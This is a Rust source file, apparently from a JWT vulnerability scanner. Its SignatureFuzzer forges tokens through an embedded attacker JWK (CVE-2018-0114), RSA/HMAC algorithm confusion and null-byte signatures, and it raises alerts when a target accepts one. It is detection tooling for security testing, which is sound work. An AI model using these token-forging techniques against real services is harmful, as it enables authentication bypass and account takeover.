use super::context::ServerSideAttack;
use super::{execute_attack, raise_alert, technique_outcome, JwtFuzzer};
use crate::constants::{EYE_CATCHER, HEADER_ALGORITHM, HEADER_JWK, NULL_BYTE};
use crate::error::JWTFuzzerError;
use crate::jwt_core::keys::{generate_key_pair, key_specs_for};
use crate::jwt_core::trust_store::TrustStore;
use crate::jwt_core::utils::{hmac_sign, AlgorithmFamily, JwsAlgorithm};
use crate::types::{Confidence, Risk, VulnerabilityType};
use async_trait::async_trait;
use serde_json::Value;
use std::sync::Arc;
use tracing::debug;

const NAME: &str = "SignatureFuzzer";

/// Attacks on the signature: embedded attacker JWK, RSA/HMAC algorithm
/// confusion and null byte signatures.
pub struct SignatureFuzzer {
    trust_store: Option<Arc<TrustStore>>,
}

impl SignatureFuzzer {
    pub fn new(trust_store: Option<Arc<TrustStore>>) -> Self {
        SignatureFuzzer { trust_store }
    }

    /// Signs the token with a fresh private key and ships the matching public
    /// key in the `jwk` header field (CVE-2018-0114).
    async fn custom_key_attack(
        &self,
        context: &ServerSideAttack<'_>,
    ) -> Result<bool, JWTFuzzerError> {
        let original = context.token();
        let Some(algorithm) = original.jws_algorithm() else {
            debug!("No forgeable algorithm in '{}'", original.algorithm());
            return Ok(false);
        };

        for spec in key_specs_for(algorithm) {
            if context.is_stop() {
                return Ok(false);
            }
            let generated =
                tokio::task::spawn_blocking(move || generate_key_pair(algorithm, spec)).await?;
            let key_pair = match generated {
                Ok(key_pair) => key_pair,
                Err(e) => {
                    debug!("No {} key for {}: {}", spec, algorithm, e);
                    continue;
                }
            };

            let mut header = original.header_json()?;
            header.insert(HEADER_JWK.to_string(), key_pair.public_jwk().clone());
            let unsigned = original.with_header_json(&header)?;
            let signature = key_pair
                .signer()
                .sign(unsigned.encoded_without_signature().as_bytes())?;
            let evidence = unsigned.with_signature(signature).encoded();

            if execute_attack(&evidence, context).await {
                raise_alert(
                    VulnerabilityType::JwkCustomKey,
                    Risk::High,
                    Confidence::High,
                    &evidence,
                    context,
                );
                return Ok(true);
            }
        }
        Ok(false)
    }

    /// Re-declares an RSA token as HS256 and signs it with each trusted
    /// certificate's public key as the HMAC secret.
    async fn algorithm_confusion_attack(
        &self,
        context: &ServerSideAttack<'_>,
    ) -> Result<bool, JWTFuzzerError> {
        let Some(trust_store) = self.trust_store.as_ref() else {
            debug!("No trust store configured, skipping algorithm confusion");
            return Ok(false);
        };
        let original = context.token();
        let is_rsa = original
            .jws_algorithm()
            .map_or(false, |alg| alg.family() == AlgorithmFamily::Rsa);
        if !is_rsa {
            return Ok(false);
        }

        let mut header = original.header_json()?;
        header.insert(
            HEADER_ALGORITHM.to_string(),
            Value::String(JwsAlgorithm::HS256.name().to_string()),
        );
        let unsigned = original.with_header_json(&header)?;
        let signing_input = unsigned.encoded_without_signature();

        for certificate in trust_store.certificates() {
            if context.is_stop() {
                return Ok(false);
            }
            let signature = hmac_sign(
                JwsAlgorithm::HS256,
                signing_input.as_bytes(),
                certificate.public_key_der(),
            )?;
            let evidence = unsigned.with_signature(signature).encoded();
            debug!("Trying public key of '{}' as HMAC secret", certificate.alias());

            if execute_attack(&evidence, context).await {
                raise_alert(
                    VulnerabilityType::AlgorithmConfusion,
                    Risk::High,
                    Confidence::High,
                    &evidence,
                    context,
                );
                return Ok(true);
            }
        }
        Ok(false)
    }

    async fn null_byte_attack(
        &self,
        context: &ServerSideAttack<'_>,
    ) -> Result<bool, JWTFuzzerError> {
        let original = context.token();

        // Trailing content after a valid token
        let evidence = format!("{}{}{}", original.encoded(), NULL_BYTE, EYE_CATCHER);
        if execute_attack(&evidence, context).await {
            raise_alert(
                VulnerabilityType::NullByte,
                Risk::Medium,
                Confidence::Medium,
                &evidence,
                context,
            );
            return Ok(true);
        }

        if context.is_stop() {
            return Ok(false);
        }
        let evidence = original.with_signature(vec![0u8]).encoded();
        if execute_attack(&evidence, context).await {
            raise_alert(
                VulnerabilityType::NullByte,
                Risk::High,
                Confidence::Medium,
                &evidence,
                context,
            );
            return Ok(true);
        }
        Ok(false)
    }
}

#[async_trait]
impl JwtFuzzer for SignatureFuzzer {
    fn name(&self) -> &'static str {
        NAME
    }

    async fn fuzz_jwt_tokens(&self, context: &ServerSideAttack<'_>) -> bool {
        if context.is_stop() {
            return false;
        }
        if technique_outcome(NAME, "custom key", self.custom_key_attack(context).await) {
            return true;
        }

        if context.is_stop() {
            return false;
        }
        if technique_outcome(
            NAME,
            "algorithm confusion",
            self.algorithm_confusion_attack(context).await,
        ) {
            return true;
        }

        if context.is_stop() {
            return false;
        }
        technique_outcome(NAME, "null byte", self.null_byte_attack(context).await)
    }
}
